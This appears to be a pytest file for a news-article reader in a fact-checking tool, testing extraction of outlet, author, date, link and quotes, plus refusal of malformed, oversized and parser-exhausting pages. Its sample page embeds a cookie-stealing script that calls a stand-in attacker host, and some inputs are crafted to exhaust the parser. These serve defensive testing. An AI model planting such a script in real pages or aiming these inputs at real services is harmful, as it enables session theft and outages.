"""What an article says of itself."""

import asyncio

import pytest

from facts.model import DeskId
from facts.usecases.desk.articles import articles
from facts.usecases.desk.articles.articles import LONGEST_ARTICLE, Articles, UnreadableArticle
from facts.usecases.desk.drafts.draft import Proposed

DESK = DeskId("1")
PAGE = """<!doctype html><html lang="en-GB"><head><title>Mayor: I closed nothing | Post</title>
<meta property="og:site_name" content="Harbour Post"><meta name="author" content="Kim Dahl">
<meta property="article:published_time" content="2021-05-04T10:00:00Z">
<link rel="canonical" href="https://harbour.example/bridge"></head><body><article>
<h1>Mayor: I closed nothing</h1>
<p>“I closed nothing,” said Jon Vik on Tuesday. He called it "a plain invention of the port".</p>
<p>The harbour master had told the council: “The bridge is shut until June.” Cars went round by
the northern road for the whole of the week, and the ferry ran every twenty minutes.</p>
<script>fetch("https://evil.example/" + document.cookie)</script></article></body></html>"""

TEXT = """Mayor: I closed nothing
By Kim Dahl
4 May 2021

“I closed nothing,” said Jon Vik on Tuesday. They said “no”.
https://www.harbour.example/bridge."""


async def test_a_page_is_read() -> None:
    """Outlet, headline, author, date, link, language and the quotes of some length."""
    assert await Articles().read(PAGE, desk=DESK) == Proposed(
        outlet="Harbour Post",
        headline="Mayor: I closed nothing",
        author="Kim Dahl",
        published="2021-05-04",
        url="https://harbour.example/bridge",
        language="en-GB",
        quotes=(
            "I closed nothing",
            "a plain invention of the port",
            "The bridge is shut until June.",
        ),
    )


async def test_a_link_that_is_known_is_the_link() -> None:
    """Whatever the page says of itself."""
    read = await Articles().read(PAGE.encode(), desk=DESK, link="https://harbour.example/seen?here")
    assert read.url == "https://harbour.example/seen?here"


async def test_plain_text_is_read() -> None:
    """Its first line, its byline, its date, its link, and its quotes."""
    read = await Articles().read(TEXT, desk=DESK)
    assert read == Proposed(
        outlet="harbour.example",
        headline="Mayor: I closed nothing",
        author="Kim Dahl",
        published="2021-05-04",
        url="https://www.harbour.example/bridge",
        quotes=("I closed nothing",),
    )


@pytest.mark.parametrize(
    "content",
    [
        "",
        "nothing to see",
        "<p>",
        b"\x00\xff\xfe",
        "<div>" * 100_000,
        '<html lang="' + "a" * 500_000,
        "“" * 300_000,
        "<!doctype html>" + "<a href='" * 50_000,
    ],
    ids=["empty", "words", "tag", "bytes", "nested", "attribute", "marks", "open"],
)
async def test_what_says_nothing_of_itself_is_refused(content: str | bytes) -> None:
    """With a sentence, whatever it is made of."""
    with pytest.raises(UnreadableArticle, match="by hand"):
        await Articles().read(content, desk=DESK)


async def test_an_article_that_is_too_long_is_refused() -> None:
    """One megabyte is the limit, in bytes."""
    with pytest.raises(UnreadableArticle, match="limit"):
        await Articles().read("é" * (LONGEST_ARTICLE // 2 + 1), desk=DESK)


async def test_a_reader_that_takes_too_long_is_ended() -> None:
    """The moderator is told to fill the source in by hand, and the next one is read."""
    hasty = Articles(seconds=0.01)
    for _ in range(3):
        with pytest.raises(UnreadableArticle, match="by hand"):
            await hasty.read(PAGE, desk=DESK)


async def test_the_loop_goes_on_while_an_article_is_read() -> None:
    """The work is done by another process."""
    turns = 0
    reading = asyncio.create_task(Articles().read(PAGE, desk=DESK))
    while not reading.done():
        await asyncio.sleep(0.001)
        turns += 1
    assert (await reading).outlet == "Harbour Post"
    assert turns > 20


@pytest.mark.parametrize(
    "page",
    [
        f"<html><body>{'<div>' * 240}words{'</div>' * 240}{PAGE}",
        f"{PAGE}<p>{'<em>a word</em> ' * 20_000}",
        f"{PAGE}{'<span>word ' * 500}",
    ],
    ids=["nested", "many", "open"],
)
async def test_a_page_made_to_keep_the_reader_busy_is_refused(page: str) -> None:
    """Before it is taken apart, which would take as long as the reader has."""
    with pytest.raises(UnreadableArticle, match=r"like an article.*by hand"):
        await Articles().read(page, desk=DESK)


async def test_a_reader_that_fails_says_so(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """The moderator is told that it is our problem, and the log has what the process said."""
    monkeypatch.setattr(articles, "_READER", "facts.usecases.desk.no_such_reader")
    with pytest.raises(UnreadableArticle, match="on our side"):
        await Articles().read(PAGE, desk=DESK)
    [record] = caplog.records
    assert "exit code 1" in record.message
    assert "no_such_reader" in record.message
